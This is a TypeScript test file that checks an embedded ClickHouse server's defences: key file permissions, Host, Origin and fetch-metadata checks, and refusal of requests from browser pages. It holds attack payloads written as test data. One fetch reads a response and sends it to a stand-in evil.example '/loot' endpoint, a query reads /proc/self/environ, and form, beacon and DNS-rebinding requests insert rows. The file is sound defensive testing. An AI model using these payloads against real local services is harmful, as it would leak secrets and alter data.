// The embedded ClickHouse answered whoever reached its port, and a web page reaches it without an Origin header: by an
// image, a navigation, or a name of its own that leads to 127.0.0.1. Nothing but a key and the names can tell them apart.
import { mkdtemp, rm, stat, writeFile } from 'node:fs/promises';
import { createServer, type IncomingMessage, request } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { connectClickhouse } from '../../../connectors/clickhouse/index.ts';
import { readKey } from '../../../local/clickhouse/access/key.ts';
import { type SpawnedClickhouse, spawnClickhouseRole } from '../../../local/clickhouse/index.ts';
import { chromiumPath, launchBrowser } from '../../services/console/chromium.ts';

let folder: string;
let role: SpawnedClickhouse;
let port: number;
const key = () => role.access.password;
beforeAll(async () => {
  folder = join(await mkdtemp(join(tmpdir(), 'live2vod-visitors-')), 'clickhouse');
  role = await spawnClickhouseRole({ folder });
  port = Number(new URL(role.url).port);
  await command('CREATE TABLE t (id UInt64) ENGINE = MergeTree ORDER BY id');
});
afterAll(async () => {
  await role.stop();
  await rm(join(folder, '..'), { recursive: true, force: true });
});

async function command(query: string): Promise<void> {
  const client = connectClickhouse({ ...role.access, database: 'default' });
  await client.command({ query }).finally(() => client.close());
}

async function countRows(): Promise<number> {
  const client = connectClickhouse({ ...role.access, database: 'default' });
  const result = await client.query({ query: 'SELECT count() AS c FROM t', format: 'JSONEachRow' });
  const [row] = await result.json<{ c: string }>();
  await client.close();
  return Number(row?.c);
}

/** By Node's own client, which sends any header that it is told. */
function ask(path: string, headers: Record<string, string | string[]> = {}, method = 'GET') {
  return new Promise<{ status: number; text: string; headers: IncomingMessage['headers'] }>((done, fail) => {
    const asked = request({ host: '127.0.0.1', port, path, method, headers }, (answer) => {
      answer
        .toArray()
        .then(
          (chunks) =>
            done({ status: answer.statusCode ?? 0, text: Buffer.concat(chunks).toString(), headers: answer.headers }),
          fail,
        );
    });
    asked.once('error', fail).end();
  });
}

const basic = (password: string) => `Basic ${Buffer.from(`anybody:${password}`).toString('base64')}`;

it('keeps a key that only the owner can read, the same after a restart', async () => {
  const before = key();
  expect((await stat(folder)).mode & 0o777).toBe(0o700);
  expect((await stat(join(folder, 'key'))).mode & 0o777).toBe(0o600);
  await role.stop();
  role = await spawnClickhouseRole({ folder, port });
  expect(key()).toBe(before);
  expect(readKey(folder)).toBe(before);
});

it('takes no key that others could have read', async () => {
  const open = await mkdtemp(join(tmpdir(), 'live2vod-open-key-'));
  await writeFile(join(open, 'key'), 'a'.repeat(43), { mode: 0o644 });
  await expect(spawnClickhouseRole({ folder: open })).rejects.toThrow(/key is not a key that only this user can read/);
  await rm(open, { recursive: true, force: true });
});

it.each(['/', '/ping', '/replicas_status', '/?query=SELECT+1', '/play', '/dashboard'])(
  'answers nothing at %s without the key',
  async (path) => {
    for (const headers of [{}, { authorization: basic('') }, { authorization: basic('x'.repeat(43)) }]) {
      const { status, text, headers: said } = await ask(path, headers);
      expect(status).toBe(403);
      expect(text).toMatch(/^Code: 516\. .*LIVE2VOD_HOME\/clickhouse\/key.*AUTHENTICATION_FAILED/);
      // With it a browser would ask for the key, keep it, and send it along with whatever a page asks for.
      expect(said['www-authenticate']).toBeUndefined();
    }
  },
);

it("takes the key in ClickHouse's own ways, and never from a URL", async () => {
  const one = '/?query=SELECT+1';
  expect((await ask(one, { authorization: basic(key()) })).text).toBe('1\n');
  expect((await ask(one, { 'x-clickhouse-user': 'x', 'x-clickhouse-key': key() })).text).toBe('1\n');
  for (const headers of [{}, { 'x-clickhouse-key': key() }]) {
    const { status, text } = await ask(`${one}&user=default&password=${key()}`, headers as Record<string, string>);
    expect(status).toBe(403);
    expect(text).toContain('never taken from a URL');
    expect(text).not.toContain(key());
  }
});

it.each<[string, Record<string, string | string[]>]>([
  ['a foreign name that leads here', { host: 'evil.example' }],
  ['a foreign name with our port', { host: 'evil.example:8123' }],
  ['a name that begins like ours', { host: '127.0.0.1.evil.example' }],
  ['a name that ends like ours', { host: 'evil.localhost' }],
  ['a name with credentials', { host: 'x@127.0.0.1' }],
  ['the unspecified address', { host: '0.0.0.0' }],
  ['a page of another site', { 'sec-fetch-site': 'cross-site' }],
  ['a page of the same site', { 'sec-fetch-site': 'same-site' }],
  ['a page of the same origin', { 'sec-fetch-site': 'same-origin' }],
  ['an origin', { origin: 'http://evil.example' }],
  ['a hidden origin', { origin: 'null' }],
])('refuses %s even with the key', async (_, headers) => {
  for (const path of ['/', '/ping', '/?query=SELECT+1']) {
    for (const method of ['GET', 'POST', 'OPTIONS', 'HEAD']) {
      const { status, headers: said } = await ask(path, { 'x-clickhouse-key': key(), ...headers }, method);
      expect(status).toBe(403);
      expect(Object.keys(said).filter((name) => name.startsWith('access-control'))).toEqual([]);
    }
  }
});

it.each(['127.0.0.1', 'localhost', 'LOCALHOST:8123', '[::1]:8123'])('answers by the name %s', async (host) => {
  expect((await ask('/?query=SELECT+1', { host, 'x-clickhouse-key': key() })).text).toBe('1\n');
  expect((await ask('/?query=SELECT+1', { host, 'x-clickhouse-key': key(), 'sec-fetch-site': 'none' })).text).toBe(
    '1\n',
  );
});

if (chromiumPath === null) console.warn('no web page attacks the embedded ClickHouse: no Chromium in /usr/bin');

describe.skipIf(chromiumPath === null)('a web page in a browser', () => {
  let browser: Browser;
  let evil: ReturnType<typeof createServer>;
  let evilUrl: string;
  /** What a page has carried off. */
  const loot: string[] = [];
  beforeAll(async () => {
    // A name of the attacker's that leads to this machine, as after a DNS rebinding.
    browser = await launchBrowser(['--host-resolver-rules=MAP *.example 127.0.0.1']);
    evil = createServer((incoming, outgoing) => {
      if (incoming.url?.startsWith('/loot')) loot.push(incoming.url);
      outgoing.writeHead(200, { 'Content-Type': 'text/html' }).end('<!doctype html><title>evil</title><body>');
    });
    await new Promise<void>((listening) => evil.listen(0, '127.0.0.1', listening));
    evilUrl = `http://evil.example:${(evil.address() as AddressInfo).port}/`;
  });
  afterAll(async () => {
    await browser?.close();
    evil?.close();
  });

  const query = (sql: string) => `?query=${encodeURIComponent(sql)}`;
  const read = query("SELECT * FROM file('/proc/self/environ', 'LineAsString')");
  const one = query("SELECT 'harvest' || 'ed'");

  /** Opens the page, lets it try, and gives the statuses of all that the role answered; what failed has none. */
  async function statuses(attempt: (page: Page, target: string) => Promise<unknown>, known = false): Promise<number[]> {
    // As if the browser had learned the key, and sent it along with everything.
    const context = await browser.newContext(known ? { extraHTTPHeaders: { 'x-clickhouse-key': key() } } : {});
    const page = await context.newPage();
    const target = `http://127.0.0.1:${port}/`;
    if (known) expect(await (await page.goto(`${target}ping`))?.text()).toBe('Ok.\n');
    await page.goto(evilUrl);
    const seen: number[] = [];
    page.on('response', (answer) => {
      if (new URL(answer.url()).port === String(port)) seen.push(answer.status());
    });
    await attempt(page, target);
    await page.waitForLoadState('networkidle');
    expect(await page.content()).not.toContain('harvested');
    await context.close();
    return seen;
  }

  const form = (target: string, body: string) => `{
    const form = document.createElement('form');
    form.method = 'POST'; form.enctype = 'text/plain'; form.action = ${JSON.stringify(target)};
    const field = document.createElement('input');
    field.name = ${JSON.stringify(body)}; field.value = '';
    form.append(field); document.body.append(form); form.submit();
  }`;

  const attempts: [string, (page: Page, target: string) => Promise<unknown>][] = [
    [
      'an image',
      (page, target) =>
        page.evaluate(
          `new Promise((done) => { const image = new Image(); image.onload = image.onerror = done; image.src = ${JSON.stringify(target + read)}; })`,
        ),
    ],
    [
      'a script',
      (page, target) =>
        page.evaluate(
          `new Promise((done) => { const script = document.createElement('script'); script.onload = script.onerror = done; script.src = ${JSON.stringify(target + one)}; document.body.append(script); })`,
        ),
    ],
    [
      'a fetch that reads',
      (page, target) =>
        page.evaluate(
          `fetch(${JSON.stringify(target + one)}, { credentials: 'include' }).then((answer) => answer.text()).then((text) => fetch('/loot?' + text)).catch(() => {})`,
        ),
    ],
    [
      'a no-cors fetch',
      (page, target) =>
        page.evaluate(
          `fetch(${JSON.stringify(target + read)}, { mode: 'no-cors', credentials: 'include' }).catch(() => {})`,
        ),
    ],
    [
      'a no-cors POST',
      (page, target) =>
        page.evaluate(
          `fetch(${JSON.stringify(target)}, { method: 'POST', mode: 'no-cors', credentials: 'include', body: 'INSERT INTO t VALUES (1)' }).catch(() => {})`,
        ),
    ],
    [
      'a beacon',
      (page, target) => page.evaluate(`navigator.sendBeacon(${JSON.stringify(target)}, 'INSERT INTO t VALUES (2)')`),
    ],
    [
      'a form',
      (page, target) =>
        Promise.all([page.waitForURL(`${target}**`), page.evaluate(form(target, 'INSERT INTO t SELECT 3 AS id --'))]),
    ],
    [
      'a navigation',
      (page, target) =>
        Promise.all([page.waitForURL(`${target}**`), page.evaluate(`location.href = ${JSON.stringify(target + one)}`)]),
    ],
    [
      'a frame',
      (page, target) =>
        page.evaluate(
          `new Promise((done) => { const frame = document.createElement('iframe'); frame.onload = done; frame.src = ${JSON.stringify(target + one)}; document.body.append(frame); })`,
        ),
    ],
    ['a name of its own that leads here', (page) => page.goto(`http://rebound.example:${port}/${one}`)],
    [
      'a fetch to its own origin after rebinding',
      async (page) => {
        await page.goto(`http://rebound.example:${port}/`);
        await page.evaluate(
          `fetch(${JSON.stringify(`/${one}`)}).then((answer) => answer.text()).then((text) => fetch(${JSON.stringify(`${evilUrl}loot?`)} + text, { mode: 'no-cors' }))`,
        );
      },
    ],
  ];

  describe.each([
    ['that does not know the key', false],
    ['whose browser sends the key along', true],
  ])('%s', (_, known) => {
    it.each(attempts)('gets nothing by %s', async (_name, attempt) => {
      const before = await countRows();
      const seen = await statuses(attempt, known);
      expect(seen.filter((status) => status !== 403)).toEqual([]);
      expect(await countRows()).toBe(before);
      expect(loot.filter((url) => url.includes('harvested'))).toEqual([]);
    });
  });
});
